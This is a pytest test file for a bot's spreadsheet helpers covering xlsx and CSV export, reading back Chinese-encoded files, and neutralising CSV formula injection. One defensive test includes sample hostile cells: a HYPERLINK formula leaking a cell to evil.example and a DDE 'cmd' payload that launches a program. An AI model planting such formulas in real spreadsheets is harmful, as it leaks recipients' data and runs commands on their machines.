"""Tables travel as xlsx and csv: what we write opens in openpyxl, what people send back reads as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from bot.services import sheets
from bot.services.errors import UserError


def test_xlsx_has_the_header_and_rows_as_given() -> None:
    data = sheets.xlsx(
        ["id", "金额", "when"], [["R-1", Decimal("12.50"), datetime(2026, 11, 30, 9, 5, tzinfo=UTC)]], "退款"
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.title == "退款"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("id", "金额", "when")
    assert rows[1] == ("R-1", 12.5, datetime(2026, 11, 30, 9, 5))
    assert sheet.freeze_panes == "A2"


def test_csv_opens_in_excel_and_round_trips() -> None:
    data = sheets.csv_bytes(["id", "买家"], [["R-1", "张三"], ["R-2", None]])
    assert data.startswith("\ufeff".encode())
    assert sheets.read_table(data, "back.CSV") == [["id", "买家"], ["R-1", "张三"], ["R-2", ""]]


def test_a_gb18030_csv_from_chinese_excel_is_read() -> None:
    assert sheets.read_table("id,结果\nR-1,通过\n".encode("gb18030"), "result.csv") == [
        ["id", "结果"],
        ["R-1", "通过"],
    ]


def test_xlsx_cells_read_as_typed_text_and_blank_rows_drop() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["order", "amount", "day"])
    sheet.append([20261201.0, 12.5, datetime(2026, 12, 1)])
    sheet.append([None, None, None])
    sheet.append([42, "  ok ", date(2026, 12, 2)])
    out = io.BytesIO()
    book.save(out)
    assert sheets.read_table(out.getvalue(), "roster.xlsx") == [
        ["order", "amount", "day"],
        ["20261201", "12.5", "2026-12-01"],
        ["42", "ok", "2026-12-02"],
    ]


@pytest.mark.parametrize(
    ("data", "name", "problem"),
    [
        (b"hello", "notes.txt", "must be an .xlsx or .csv file"),
        (b"not a zip", "broken.xlsx", "could not open that file"),
    ],
)
def test_a_file_that_is_not_a_table_is_explained(data: bytes, name: str, problem: str) -> None:
    with pytest.raises(UserError) as caught:
        sheets.read_table(data, name)
    assert problem in caught.value.message


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_defused(start: str) -> None:
    typed = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"refund")'
    data = sheets.csv_bytes([f"{start}buyer", "note"], [[typed, "+cmd|'/C calc'!A0"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [[f"'{start}buyer", "note"], [f"'{typed}", "'+cmd|'/C calc'!A0"]]


def test_csv_numbers_stay_numbers_and_text_that_starts_like_one_is_defused() -> None:
    data = sheets.csv_bytes(
        ["amount", "note"],
        [[Decimal("-5.00"), "-5 cups"], [-5, "-5"], [2.5, "+86 138 0013 8000"], [None, "1e-3"]],
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["-5.00", "'-5 cups"], ["-5", "-5"], ["2.5", "'+86 138 0013 8000"], ["", "1e-3"]]
